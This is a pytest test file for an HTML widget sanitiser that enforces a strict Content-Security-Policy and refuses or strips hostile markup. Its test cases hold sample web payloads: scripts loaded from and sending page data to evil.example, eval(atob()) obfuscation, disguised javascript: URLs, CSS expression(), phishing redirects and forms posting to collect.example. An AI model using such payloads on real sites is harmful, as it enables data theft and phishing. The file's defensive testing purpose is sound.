import pytest

from core.lessons import RefusedWidget, SanitisedWidget, sanitise_widget, widget_file_name
from core.lessons.widgets import CSP

GOOD = """<!doctype html><html><head><title>Slope explorer</title>
<style>body { font-family: sans-serif; }
.bar { background: url(data:image/png;base64,AAAA); }</style>
</head><body>
<label for="h">h</label><input id="h" type="range" min="1" max="100" oninput="update()">
<output id="out"></output>
<svg width="100" height="50"><line x1="0" y1="50" x2="100" y2="0" stroke="black"/></svg>
<script>
function update() {
  const h = document.getElementById("h").value / 100;
  document.getElementById("out").textContent = ((Math.pow(1 + h, 2) - 1) / h).toFixed(3);
}
</script></body></html>"""


def _ok(source: str) -> SanitisedWidget:
    result = sanitise_widget(source)
    assert isinstance(result, SanitisedWidget), result
    return result


def _refused(source: str) -> str:
    result = sanitise_widget(source)
    assert isinstance(result, RefusedWidget), result
    return result.reason


def test_a_self_contained_widget_keeps_its_script_and_gets_a_strict_csp() -> None:
    out = _ok(GOOD).html.decode()
    assert out.index('http-equiv="Content-Security-Policy"') < out.index("<title>")
    assert f'content="{CSP}"' in out
    assert "default-src 'none'" in CSP and "form-action 'none'" in CSP and "img-src data:" in CSP
    assert "function update()" in out and 'oninput="update()"' in out
    assert "<title>Slope explorer</title>" in out
    assert "url(data:image/png;base64,AAAA)" in out
    assert out.count("<script>") == 1


@pytest.mark.parametrize(
    ("source", "reason"),
    [
        ('<script src="https://evil.example/x.js"></script><p>hi</p>', "external script"),
        ('<script src="//evil.example/x.js"></script>', "external script"),
        ("<svg><script href='x.js'></script></svg>", "external script"),
        ("<script>fetch('https://evil.example/?q=' + document.title)</script>", "fetch()"),
        ("<script>new XMLHttpRequest()</script>", "XMLHttpRequest"),
        ("<script>const s = new WebSocket('wss://x')</script>", "WebSocket"),
        ("<script>import('https://x/m.js')</script>", "import()"),
        ("<script type=module>import x from 'https://x/m.js'</script>", "import statement"),
        ("<script>navigator.sendBeacon('/x', 'y')</script>", "sendBeacon"),
        ("<script>eval(atob('ZmV0Y2go'))</script>", "eval()"),
        ("<script>window.location.href = 'https://phish.example'</script>", "navigation"),
        ("<button onclick=\"fetch('/steal')\">go</button>", "onclick handler"),
        ('<a href="javascript:alert(1)">x</a>', "javascript: URL"),
        ('<a href="java&#115;cript:alert(1)">x</a>', "javascript: URL"),
        ('<a href=" JaVaScRiPt:alert(1)">x</a>', "javascript: URL"),
        ('<div style="width: expression(alert(1))">x</div>', "CSS runs code"),
        ("", "no content"),
        ("x" * 200_001, "larger than"),
    ],
)
def test_hostile_widgets_are_refused(source: str, reason: str) -> None:
    assert reason in _refused(source)


def test_a_script_split_across_parser_chunks_is_still_checked_whole() -> None:
    assert "fetch()" in _refused("<script>var a = 1;\n" + " " * 5000 + "fetch('/x')</script>")


def test_external_resources_and_posting_forms_are_removed() -> None:
    source = (
        '<link rel="stylesheet" href="https://cdn.example/x.css">'
        '<meta http-equiv="refresh" content="0;url=https://phish.example">'
        '<base href="https://evil.example/">'
        '<img src="https://tracker.example/p.gif" alt="pixel">'
        '<img src="data:image/png;base64,iVBORw0KGgo=" alt="ok">'
        '<iframe src="https://evil.example"></iframe>'
        '<style>@import url("https://x/y.css"); p { background: url(https://x/bg.png) }</style>'
        '<form action="https://collect.example/" method="post"><input name="a">'
        '<button formaction="https://collect.example/2">send</button></form>'
        '<a href="https://elsewhere.example">a link</a> <a href="#part2">inside</a>'
        "<object data='x.swf'>fallback</object><p>text stays</p>"
    )
    result = _ok(source)
    out = result.html.decode()
    for gone in (
        "cdn.example", "phish.example", "evil.example", "tracker.example", "collect.example",
        "elsewhere.example", "@import", "x/bg.png", "<iframe", "<object", "<base", "method=",
        "fallback",
    ):  # fmt: skip
        assert gone not in out, gone
    assert 'src="data:image/png;base64,iVBORw0KGgo="' in out
    assert 'href="#part2"' in out
    assert "<form>" in out and "text stays" in out
    assert "<link>" in result.removed and "<iframe>" in result.removed


def test_markup_cannot_escape_its_attribute_or_close_the_document_early() -> None:
    out = _ok('<p title="&quot;><script>fetch(1)</script>">x</p></body></html><p>after</p>')
    text = out.html.decode()
    assert "<script>" not in text  # the quote stayed inside the attribute, escaped
    assert text.rstrip().endswith("</html>") and text.count("</html>") == 1
    assert "after" in text


def test_unknown_elements_keep_their_text_only() -> None:
    out = _ok("<blink>Look</blink><custom-el onclick='x()'>here</custom-el>").html.decode()
    assert "Look" in out and "here" in out and "<blink" not in out and "custom-el" not in out


def test_widget_file_names_are_per_slide() -> None:
    assert widget_file_name(3) == "slide-03-widget.html"
